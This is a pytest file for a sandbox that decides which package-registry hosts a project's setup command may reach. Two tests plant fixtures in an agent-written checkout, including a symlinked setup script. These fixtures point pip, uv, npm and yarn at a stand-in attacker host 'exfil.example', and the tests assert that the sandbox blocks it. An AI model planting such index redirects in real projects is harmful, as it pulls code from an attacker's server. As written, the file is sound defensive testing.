"""The registries setup may reach when `setup_network` names none: its tools' own (issue 46,
item 2), read where each tool reads them; and what tells the tools inside the box."""

from __future__ import annotations

from pathlib import Path

import pytest

from conveyor.sandbox.registries import setup_registries
from conveyor.sandbox.registry_config import registry_vars


def _hosts(command: str, environ: dict[str, str], checkout: Path | None = None) -> list[str]:
    return [r.host for r in setup_registries(command, environ, checkout)]


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    return folder


@pytest.mark.parametrize(
    "command",
    [
        "python -m pip install -e .[test]",
        "uv sync --frozen",
        "poetry install",
        ".venv/bin/pip3 install -r requirements.txt",
        "tox --notest",
    ],
)
def test_a_python_setup_reaches_pypi_by_default(command: str, home: Path) -> None:
    """No index configured: PyPI's index and its files' host."""
    assert _hosts(command, {"HOME": str(home)}) == ["pypi.org", "files.pythonhosted.org"]


def test_a_setup_without_a_registry_tool_reaches_nothing(home: Path) -> None:
    """`make build` with no Makefile, a plain script: no host."""
    assert _hosts("make build && ./configure", {"HOME": str(home)}) == []
    assert setup_registries(None, {"HOME": str(home)}, None) == ()


def test_pips_own_index_replaces_pypi_and_an_extra_index_adds_to_it(home: Path) -> None:
    """`PIP_INDEX_URL` (a port kept), pip.conf's `extra-index-url` beside PyPI."""
    env = {"HOME": str(home), "PIP_INDEX_URL": "https://pypi.corp.example:8443/simple/"}
    assert _hosts("pip install .", env) == ["pypi.corp.example:8443"]
    conf = home / ".config" / "pip" / "pip.conf"
    conf.parent.mkdir(parents=True)
    conf.write_text("[global]\nextra-index-url = http://127.0.0.1:3141/root/dev/+simple/\n")
    assert _hosts("pip install .", {"HOME": str(home)}) == [
        "127.0.0.1:3141",
        "pypi.org",
        "files.pythonhosted.org",
    ]


def test_uvs_index_from_its_variable_and_its_config(home: Path) -> None:
    """`UV_INDEX_URL`, a default `[[index]]` in the owner's uv.toml, an extra one beside
    PyPI."""
    env = {"HOME": str(home), "UV_INDEX_URL": "https://uv.example/simple"}
    assert _hosts("uv sync", env) == ["uv.example"]
    conf = home / ".config" / "uv" / "uv.toml"
    conf.parent.mkdir(parents=True)
    conf.write_text('[[index]]\nurl = "https://mirror.example/simple"\ndefault = true\n')
    assert _hosts("uv pip install -e .", {"HOME": str(home)}) == ["mirror.example"]
    conf.write_text('[[index]]\nname = "torch"\nurl = "https://download.pytorch.org/whl/cpu"\n')
    assert _hosts("uv sync", {"HOME": str(home)}) == [
        "download.pytorch.org",
        "pypi.org",
        "files.pythonhosted.org",
    ]


def test_no_host_is_taken_from_a_file_in_the_checkout(home: Path, tmp_path: Path) -> None:
    """An agent writes the checkout: its `.npmrc`, `.yarnrc.yml`, `pyproject.toml`, `uv.toml`,
    `Pipfile`, and an `--index-url` in a script or Makefile there name hosts that never
    become setup's; the tools they show add only their public registries."""
    checkout = tmp_path / "repo"
    (checkout / "scripts").mkdir(parents=True)
    evil = "https://exfil.example/simple"
    (checkout / ".npmrc").write_text("registry=https://exfil.example/\n")
    (checkout / ".yarnrc.yml").write_text("npmRegistryServer: https://exfil.example\n")
    (checkout / "pyproject.toml").write_text(f'[[tool.uv.index]]\nurl = "{evil}"\n')
    (checkout / "uv.toml").write_text(f'index-url = "{evil}"\n')
    (checkout / "Pipfile").write_text(f'[[source]]\nurl = "{evil}"\n')
    (checkout / "scripts" / "setup.sh").write_text(f"pip install --index-url {evil} .\nnpm ci\n")
    (checkout / "Makefile").write_text(f"setup:\n\tuv sync --index-url {evil}\n")
    for command in ("bash scripts/setup.sh", "make setup", "npm ci && uv sync"):
        hosts = _hosts(command, {"HOME": str(home)}, checkout)
        assert "exfil.example" not in hosts, (command, hosts)
        assert set(hosts) <= {"pypi.org", "files.pythonhosted.org", "registry.npmjs.org"}


def test_npms_registry_from_the_owners_npmrc_and_the_variable(home: Path) -> None:
    """npm's public registry by default (yarn's too for yarn); the owner's `.npmrc`
    `registry=` replaces it, a scoped one adds to it; `npm_config_registry` replaces it."""
    env = {"HOME": str(home)}
    assert _hosts("npm ci", env) == ["registry.npmjs.org"]
    assert _hosts("yarn install --frozen-lockfile", env) == [
        "registry.npmjs.org",
        "registry.yarnpkg.com",
    ]
    (home / ".npmrc").write_text(
        "@corp:registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=SECRET\n"
    )
    assert _hosts("pnpm install", env) == ["npm.corp.example", "registry.npmjs.org"]
    (home / ".npmrc").write_text("registry=http://127.0.0.1:4873/\n")
    assert _hosts("npm ci", env) == ["127.0.0.1:4873"]
    (home / ".npmrc").write_text("@corp:registry=https://npm.corp.example/\n")
    assert _hosts("npm ci", env | {"npm_config_registry": "https://r.example/"}) == [
        "npm.corp.example",
        "r.example",
    ]


def test_a_setup_script_is_read_for_its_tools(tmp_path: Path, home: Path) -> None:
    """`bash scripts/setup.sh` whose script runs `npm ci` and `pip install`: both."""
    checkout = tmp_path / "repo"
    (checkout / "scripts").mkdir(parents=True)
    (checkout / "scripts" / "setup.sh").write_text("set -e\nnpm ci\npython -m pip install .\n")
    hosts = _hosts("bash scripts/setup.sh", {"HOME": str(home)}, checkout)
    assert hosts == ["pypi.org", "files.pythonhosted.org", "registry.npmjs.org"]
    (checkout / "Makefile").write_text("setup:\n\tcargo fetch\n")
    assert _hosts("make setup", {"HOME": str(home)}, checkout) == [
        "index.crates.io",
        "static.crates.io",
        "crates.io",
    ]


def test_go_reaches_its_proxy_and_checksum_database(home: Path) -> None:
    """`GOPROXY` and `GOSUMDB` as set, else Go's own."""
    assert _hosts("go mod download", {"HOME": str(home)}) == ["proxy.golang.org", "sum.golang.org"]
    env = {"HOME": str(home), "GOPROXY": "https://goproxy.corp.example,direct", "GOSUMDB": "off"}
    assert _hosts("go mod download", env) == ["goproxy.corp.example"]


def test_the_owners_registries_reach_the_box_without_their_tokens(home: Path) -> None:
    """The box's HOME is not the owner's: `.npmrc`'s registry lines become variables (its
    token does not), uv's user config is named, the index variables pass."""
    (home / ".npmrc").write_text(
        "registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=SECRET\n"
    )
    conf = home / ".config" / "uv" / "uv.toml"
    conf.parent.mkdir(parents=True)
    conf.write_text('index-url = "https://mirror.example/simple"\n')
    env = {"HOME": str(home), "UV_EXTRA_INDEX_URL": "https://x.example/simple", "OTHER": "1"}
    found = registry_vars(env)
    assert found == {
        "UV_EXTRA_INDEX_URL": "https://x.example/simple",
        "UV_CONFIG_FILE": str(conf),
        "npm_config_registry": "https://npm.corp.example/",
    }
    assert "SECRET" not in repr(found)


def test_an_index_named_on_the_command_line_is_reached(home: Path) -> None:
    """`pip install -i URL`, `--extra-index-url=URL`, `npm ci --registry URL`."""
    command = (
        "pip install -i http://127.0.0.1:3141/simple/ --extra-index-url=https://x.example/s "
        "&& npm ci --registry https://npm.example/"
    )
    hosts = _hosts(command, {"HOME": str(home)})
    assert hosts[:3] == ["127.0.0.1:3141", "x.example", "npm.example"]


def test_a_script_the_checkout_links_to_a_file_outside_is_still_the_checkouts(
    home: Path, tmp_path: Path
) -> None:
    """A committed link `scripts/setup.sh` → a file outside whose text an agent could write
    (a run's handoff): what the command names in the checkout is the checkout's, wherever
    its link leads, and opens no host."""
    checkout = tmp_path / "repo"
    (checkout / "scripts").mkdir(parents=True)
    outside = tmp_path / "runs" / "handoff.md"
    outside.parent.mkdir()
    outside.write_text("pip install --index-url https://exfil.example/simple .\n")
    (checkout / "scripts" / "setup.sh").symlink_to(outside)
    hosts = _hosts("bash scripts/setup.sh", {"HOME": str(home)}, checkout)
    assert "exfil.example" not in hosts
    assert set(hosts) <= {"pypi.org", "files.pythonhosted.org"}
